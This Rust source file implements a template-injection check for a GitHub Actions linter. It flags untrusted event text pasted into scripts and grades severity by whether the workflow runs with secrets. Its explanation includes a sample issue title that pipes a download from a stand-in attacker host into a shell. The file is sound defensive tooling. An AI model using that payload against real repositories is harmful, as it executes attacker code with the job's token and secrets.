//! Text that somebody else chose becomes part of a script.

use crate::audit::{Audit, Check, Context};
use crate::model::event::{self, Author};
use crate::model::placed::{self, Placed};
use crate::model::step::Does;
use crate::model::uses::Uses;
use crate::model::workflow::{Site, Workflow};
use crate::rule::{Docs, Family, Persona, Precision, Rule, Severity, text};
use crate::syntax::expression::Access;
use crate::syntax::yaml::{Entry, Node};

pub static AUDIT: Audit = Audit {
    rule: Rule {
        id: text("template-injection"),
        family: Family::Workflow,
        title: text("Untrusted text becomes part of a script"),
        severity: Severity::High,
        precision: Precision::High,
        persona: Persona::Regular,
        kind: None,
        since: text("0.1.0"),
        online: false,
        fixable: false,
        aliases: &[
            "zizmor:template-injection",
            "codeql:actions/code-injection/critical",
            "codeql:actions/code-injection/medium",
            "poutine:injection",
            "actionlint:expression",
            "scorecard:Dangerous-Workflow",
            "octoscan:expression-injection",
        ],
        docs: Docs {
            what: text(
                "A `${{ … }}` in a `run:`, or in an action's input that is executed, takes in text that somebody else chooses. Critical: anyone can \
                 choose it and the event runs with secrets. High: anyone can choose it. Medium: the run has no secrets, or the text is an input that \
                 a caller fills. Low: only people who may write to the repository choose it. Numbers, hashes, account names, inputs of type \
                 `boolean`, `number` or `choice`, constants and values written out in the matrix are left alone; comparisons and conditions \
                 pass no text on. What ciward cannot follow is told to the pedantic persona.",
            ),
            why: text(
                "The runner pastes the text into the script before any shell sees it, so no quoting helps: an issue titled \
                 `\"; curl evil.example | sh; \"` runs that command, with the job's token and secrets.",
            ),
            fix: text(
                "Hand the text over in an environment variable and let the shell expand it: `env: {TITLE: ${{ github.event.issue.title }}}`, then \
                 `\"$TITLE\"` in the script (`$env:TITLE` in PowerShell).",
            ),
        },
    },
    checks: &[Check::Step(check)],
};

fn check(site: Site<'_, '_>, cx: &mut Context<'_>) {
    match &site.step.does {
        Does::Run(run) => check_code(run.script, site, cx),
        Does::Uses(uses, inputs) => {
            for input in inputs.iter().filter(|input| is_code(uses, input)) {
                check_code(&input.value, site, cx);
            }
        }
        Does::Nothing => {}
    }
}

fn check_code(code: &Node, site: Site<'_, '_>, cx: &mut Context<'_>) {
    for placed in placed::expressions(code) {
        if placed.expression.possible_values().is_some() {
            continue;
        }
        for access in placed.expression.flowing_accesses() {
            if let Some(verdict) = judge(&access, site, 0) {
                report(&placed, &access, &verdict, cx);
            }
        }
    }
}

/// What is to be said of a context.
struct Verdict {
    severity: Severity,
    persona: Persona,
    /// Completes "`context` …".
    words: String,
}

fn report(placed: &Placed<'_>, access: &Access, verdict: &Verdict, cx: &mut Context<'_>) {
    let message = format!("`{}` {}", access.dotted(), verdict.words);
    cx.report_aliased(placed.span(access.span), placed.alias, message).severity(verdict.severity).persona(verdict.persona);
}

/// Environment variables that are set from other environment variables are followed so far.
const ENV_HOPS: usize = 4;

fn judge(access: &Access, site: Site<'_, '_>, hops: usize) -> Option<Verdict> {
    if let Some(author) = event::author(access) {
        return judge_author(author, access, site);
    }
    let dotted = access.dotted();
    let (context, name) = dotted.split_once('.').unwrap_or((&dotted, ""));
    match context.to_ascii_lowercase().as_str() {
        "inputs" => judge_input(name, site),
        "env" => judge_env(name, site, hops),
        "matrix" => judge_matrix(name, site),
        "steps" if name.ends_with(".outcome") || name.ends_with(".conclusion") => None,
        "needs" if name.ends_with(".result") => None,
        "steps" | "needs" | "vars" => Some(unknown("becomes part of the script; where its text comes from is not known here")),
        _ => None,
    }
}

fn unknown(words: &str) -> Verdict {
    Verdict { severity: Severity::Low, persona: Persona::Pedantic, words: words.to_owned() }
}

fn judge_author(author: Author, access: &Access, site: Site<'_, '_>) -> Option<Verdict> {
    match author {
        Author::GitHub => None,
        Author::Insider => {
            // A branch's or tag's name: who can push one can change the workflow, too.
            let is_ref = access.path.len() == 2;
            let persona = if is_ref { Persona::Pedantic } else { Persona::Regular };
            let words = "is chosen by whoever may write to the repository, and becomes part of the script".to_owned();
            Some(Verdict { severity: Severity::Low, persona, words })
        }
        Author::Anyone => {
            let (severity, reach) = reach(site.workflow);
            let words = format!("can be chosen by anyone, and becomes part of the script{reach}");
            Some(Verdict { severity, persona: Persona::Regular, words })
        }
    }
}

/// How bad it is that anyone can run code in the job.
fn reach(workflow: Option<&Workflow<'_>>) -> (Severity, String) {
    let Some(workflow) = workflow else { return (Severity::High, String::new()) };
    if let Some(trigger) = workflow.triggers.privileged() {
        return (Severity::Critical, format!(": `{}` runs with the repository's secrets", trigger.name));
    }
    let triggers = &workflow.triggers.list;
    let unprivileged = |name: &str| name.starts_with("pull_request");
    match !triggers.is_empty() && triggers.iter().all(|trigger| unprivileged(trigger.name)) {
        true => (Severity::Medium, String::new()),
        false => (Severity::High, String::new()),
    }
}

fn judge_input(name: &str, site: Site<'_, '_>) -> Option<Verdict> {
    let words = "becomes part of the script";
    let Some(workflow) = site.workflow else {
        let words = format!("is filled by the action's caller, and {words}");
        return Some(Verdict { severity: Severity::Medium, persona: Persona::Regular, words });
    };
    let declared = |event: &str| {
        let input = workflow.triggers.get(event)?.filters?.get("inputs")?.get(name)?;
        Some(input.get("type").and_then(Node::as_str).unwrap_or("string"))
    };
    if matches!(declared("workflow_call"), Some("string")) {
        let words = format!("is filled by the calling workflow, and {words}");
        return Some(Verdict { severity: Severity::Medium, persona: Persona::Regular, words });
    }
    if matches!(declared("workflow_dispatch"), Some("string")) {
        let words = format!("is typed by whoever starts the workflow, and {words}");
        return Some(Verdict { severity: Severity::Low, persona: Persona::Regular, words });
    }
    None
}

fn judge_env(name: &str, site: Site<'_, '_>, hops: usize) -> Option<Verdict> {
    let Some(value) = site.env_value(name) else {
        return Some(unknown("becomes part of the script; where its text comes from is not known here"));
    };
    if hops == ENV_HOPS {
        return None;
    }
    let accesses = placed::expressions(value).into_iter().flat_map(|placed| placed.expression.flowing_accesses());
    let worst = accesses.filter_map(|access| judge(&access, site, hops + 1)).max_by_key(|verdict| verdict.severity)?;
    Some(Verdict {
        words: format!("is pasted into the script instead of being read as a variable, and its text {}", worst.words),
        ..worst
    })
}

fn judge_matrix(name: &str, site: Site<'_, '_>) -> Option<Verdict> {
    let key = name.split('.').next().unwrap_or(name);
    let written_out = site.job.is_some_and(|job| job.matrix_values(key).is_some());
    (!written_out).then(|| unknown("becomes part of the script; the matrix's values are not known here"))
}

fn is_code(uses: &Uses<'_>, input: &Entry) -> bool {
    let Some(name) = input.key.as_str() else { return false };
    CODE_INPUTS.iter().any(|(slug, inputs)| uses.is(slug) && inputs.iter().any(|code| code.eq_ignore_ascii_case(name)))
}

/// Inputs that an action executes, from each action's own documentation.
const CODE_INPUTS: &[(&str, &[&str])] = &[
    ("actions/github-script", &["script"]),
    ("addnab/docker-run-action", &["run"]),
    ("amadevus/pwsh-script", &["script"]),
    ("appleboy/ssh-action", &["script"]),
    ("azure/cli", &["inlineScript"]),
    ("azure/powershell", &["inlineScript"]),
    ("cross-platform-actions/action", &["run"]),
    ("devcontainers/ci", &["runCmd"]),
    ("jannekem/run-python-script-action", &["script"]),
    ("mikefarah/yq", &["cmd"]),
    ("nick-fields/retry", &["command", "on_retry_command", "new_command_on_retry"]),
    ("reactivecircus/android-emulator-runner", &["script", "pre-emulator-launch-script"]),
    ("uraimo/run-on-arch-action", &["run", "install", "setup"]),
    ("vmactions/freebsd-vm", &["run", "prepare"]),
    ("vmactions/netbsd-vm", &["run", "prepare"]),
    ("vmactions/openbsd-vm", &["run", "prepare"]),
    ("vmactions/solaris-vm", &["run", "prepare"]),
    ("wagoid/retry-step", &["command"]),
];
